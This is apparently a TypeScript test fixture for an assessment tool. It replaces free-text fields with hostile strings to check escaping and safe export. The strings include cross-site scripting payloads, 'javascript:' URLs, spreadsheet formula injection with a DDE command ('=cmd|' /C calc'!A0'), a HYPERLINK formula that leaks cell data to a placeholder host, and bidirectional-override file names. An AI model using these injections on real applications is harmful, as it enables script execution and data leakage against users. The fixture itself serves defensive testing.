/** Assessments in which every text that could be a stranger’s is one that means harm. */
import type { Assessment } from '../../src/model/assessment.ts';

/** What breaks markup, scripts, links, the direction of reading, spreadsheets and files. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'one\u2028two\u2029three',
  '\u202Egnp.exe\u202C',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.test/?"&A1,"here")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  'a\n=1+1',
  'a\r\n@b',
  'x;=1+1;y',
  'x,"=1+1",y',
  'x";"=1+1";"',
  '"=1+1"',
  "'=1+1",
  'a\u0000b\u0001c\u001fd\u007fe',
  'half a pair \ud83d and the other half \udca5',
  'not\uFFFEcharacters\uFFFF',
  '_x000D_ and _x0041_',
  ' blanks at both ends ',
  '__proto__',
  'constructor',
  '00123',
  '1E5',
  '2026-11-22',
  'TRUE',
  'ünïcödé 電話 💥',
  'x'.repeat(32_766),
  'y'.repeat(32_768),
  `${'z'.repeat(32_766)}💥`,
  `=${'1+'.repeat(20_000)}1`,
  '"'.repeat(500),
  'line\n'.repeat(300),
];

/** Keys under which an assessment holds text of the client, of the sources or of a user’s own rules. */
const FREE: ReadonlySet<string> = new Set([
  'file', 'name', 'label', 'value', 'snippet', 'definition', 'section', 'message', 'title', 'description', 'equivalent', 'do', 'text', 'why',
  'note', 'reason', 'sizeReason', 'noHours', 'who', 'changes', 'drivers', 'reasoning', 'owner', 'licence', 'folder', 'address', 'limit',
  'manifest', 'namespace', 'internalName', 'shows', 'object',
]); // prettier-ignore
const FREE_LISTS: ReadonlySet<string> = new Set([
  'chain',
  'caveats',
  'via',
  'allowList',
  'pages',
  'classes',
  'permissions',
  'sets',
  'muted',
  'presenceStatuses',
]);

/** Every free text is the next of `texts`, in turn; addresses of sources are hostile now and then. */
export function hostileAssessment(assessment: Assessment, texts: readonly string[] = HOSTILE_TEXTS): Assessment {
  let turn = 0;
  const next = (): string => texts[turn++ % texts.length] ?? '';
  const visit = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      if (FREE.has(key)) return next();
      return key === 'url' && turn++ % 3 === 0 ? 'javascript:alert(document.domain)' : value;
    }
    if (Array.isArray(value))
      return value.map((one: unknown) => (typeof one === 'string' && FREE_LISTS.has(key) ? next() : visit(one, key)));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, visit(one, name)]));
  };
  return visit(structuredClone(assessment), '') as Assessment;
}
